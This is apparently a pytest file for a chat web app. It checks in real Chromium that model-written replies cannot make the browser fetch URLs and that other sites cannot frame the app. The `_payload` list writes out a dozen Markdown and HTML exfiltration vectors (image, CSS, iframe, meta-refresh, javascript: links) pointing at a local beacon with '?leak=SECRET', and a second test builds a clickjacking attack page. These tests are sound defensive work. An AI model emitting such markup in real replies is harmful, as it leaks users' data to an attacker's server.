"""A reply that tries to make the reader's browser fetch a URL (to leak the page) fetches nothing, in real Chromium."""
from __future__ import annotations

import http.server
import threading
import urllib.request

import pytest

from tests.browser import CHROMIUM, CHROMIUM_ARGS, DemoProcess, demo_env, require_chromium, send_compare
from tests.fake_servers import Scenario


class _Beacon(http.server.BaseHTTPRequestHandler):
    hits: list = []

    def do_GET(self):  # noqa: N802 (the stdlib's name)
        _Beacon.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.end_headers()
        self.wfile.write(b"GIF89a")

    def log_message(self, *args):
        pass


@pytest.fixture
def beacon():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Beacon)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    _Beacon.hits = []
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


def _payload(url: str) -> list[str]:
    # each a way a Markdown or HTML renderer would load a URL of the model's choosing
    return [f"Here you go ![chart]({url}/md?leak=SECRET) and ",
            f'<img src="{url}/img?leak=SECRET"> ',
            f'<div style="background:url({url}/css?leak=SECRET)">styled</div> ',
            f'<link rel="stylesheet" href="{url}/link?leak=SECRET"> ',
            f"![ref][r]\n\n[r]: {url}/ref?leak=SECRET\n\n",
            # the CommonMark forms the old regexes missed: a shortcut reference, brackets in the alt, two-line alt
            f"![s]\n\n[s]: {url}/shortcut?leak=SECRET\n\n",
            f"![a [b] c]({url}/brackets?leak=SECRET) and ![two\nlines]({url}/twolines?leak=SECRET)\n\n",
            f'<svg><image href="{url}/svg?leak=SECRET"/></svg> <iframe src="{url}/frame?leak=SECRET"></iframe> ',
            f'<meta http-equiv="refresh" content="0;url={url}/meta?leak=SECRET"> <video poster="{url}/poster?leak=SECRET">'
            f'</video> <object data="{url}/object?leak=SECRET"></object> [js](javascript:fetch("{url}/js")) ',
            f"and a plain link [docs]({url}/clicked-only) that is not followed by itself."]


def _without_csp(route):
    """The page as a proxy that drops headers would serve it: no Content-Security-Policy."""
    response = route.fetch()
    headers = {k: v for k, v in response.headers.items() if k.lower() != "content-security-policy"}
    route.fulfill(response=response, headers=headers)


@pytest.mark.parametrize("csp", ["on", "off"])
def test_nothing_a_model_writes_makes_the_browser_fetch_anything(fake_server, tmp_path, beacon, csp):
    """With the policy switched off too: the renderer is the first wall on its own."""
    require_chromium()
    from playwright.sync_api import sync_playwright

    for model in ("gpt-4o-mini", "gpt-4o"):
        fake_server.scenarios[model] = Scenario(chunks=_payload(beacon), gap=0.01, input_tokens=20, output_tokens=40)
    demo = DemoProcess(demo_env(fake_server.url), [], tmp_path / "chat.db")
    try:
        # every page says where it may load from
        with urllib.request.urlopen(demo.url, timeout=10) as page:
            policy = page.headers["Content-Security-Policy"]
        assert "img-src data: blob:" in policy and "connect-src 'self'" in policy
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
            page = browser.new_page()
            if csp == "off":  # the page itself, not the streams it opens
                page.route(lambda url: url.rstrip("/") == demo.url.rstrip("/"), _without_csp)
            page.goto(demo.url)
            page.wait_for_selector("#prompt textarea", timeout=60_000)
            if csp == "off":
                assert page.evaluate("document.querySelector('meta[http-equiv]')") is None
            # Chat
            page.fill("#prompt textarea", "show me the chart")
            page.keyboard.press("Enter")
            page.wait_for_function("document.querySelector('#chatbot').innerText.includes('not followed by itself')",
                                   timeout=30_000)
            shown = page.inner_text("#chatbot")
            assert "chart" in shown and "<img" in shown  # what the model wrote is there, as text
            # Compare, two columns of the same
            page.get_by_role("tab", name="Compare").click()
            send_compare(page, ("gpt-4o-mini", "gpt-4o"), "show me the chart")
            page.wait_for_function("['0','1'].every(i => (document.querySelector('#compare-answer-' + i) || "
                                   "{innerText: ''}).innerText.includes('not followed by itself'))", timeout=30_000)
            page.wait_for_timeout(1500)  # time for any image, stylesheet or background to be requested
            assert page.locator("img[src*='leak']").count() == 0
            for area in ("#chatbot", "#compare-answer-0", "#compare-answer-1"):
                made = page.eval_on_selector_all(f"{area} img, {area} svg image, {area} iframe, {area} video, "
                                                 f"{area} object, {area} meta, {area} a[href^='javascript']",
                                                 "els => els.map(e => e.outerHTML)")
                assert made == [], (area, made)
            browser.close()
    finally:
        demo.stop()
    assert _Beacon.hits == [], f"the browser fetched {_Beacon.hits}"


def _site(pages: dict[str, str]) -> tuple[http.server.ThreadingHTTPServer, str]:
    """Another origin on loopback serving these pages: what an attacker's site (or an intranet) would be."""
    class Site(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 (the stdlib's name)
            body = pages.get(self.path, "").encode()
            self.send_response(200 if body else 404)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Site)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, f"http://127.0.0.1:{server.server_address[1]}"


def test_another_site_cannot_frame_the_app_unless_the_operator_lists_it(fake_server, tmp_path):
    """With no frame-ancestors and no X-Frame-Options, another site could frame the app and trick a logged-in reader
    into clicking Send or Run. The browser now refuses the frame; --frame-ancestors lets an intranet embed it."""
    require_chromium()
    from playwright.sync_api import sync_playwright

    framing = "<html><body><iframe id=app src='{url}' width=900 height=700></iframe></body></html>"
    pages: dict[str, str] = {}
    site, origin = _site(pages)
    refused = DemoProcess(demo_env(fake_server.url), [], tmp_path / "a.db")
    allowed = DemoProcess(demo_env(fake_server.url), ["--frame-ancestors", f"'self' {origin}"], tmp_path / "b.db")
    pages.update({"/attack": framing.format(url=refused.url), "/intranet": framing.format(url=allowed.url)})
    try:
        with urllib.request.urlopen(refused.url, timeout=10) as page:
            assert "frame-ancestors 'none'" in page.headers["Content-Security-Policy"]
            assert page.headers["X-Frame-Options"] == "DENY"
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
            page = browser.new_page()
            # an operator who embeds the app in its own site lists it, and the app loads in the frame
            page.goto(f"{origin}/intranet")
            page.frame_locator("#app").locator("#prompt textarea").wait_for(timeout=60_000)
            # the attacker's site: the browser refuses to show the app inside it
            page.goto(f"{origin}/attack")
            page.wait_for_timeout(3000)
            assert page.frame_locator("#app").locator("#prompt textarea").count() == 0
            assert page.frames[1].url != refused.url + "/" and page.frames[1].url != refused.url
            browser.close()
    finally:
        refused.stop()
        allowed.stop()
        site.shutdown()
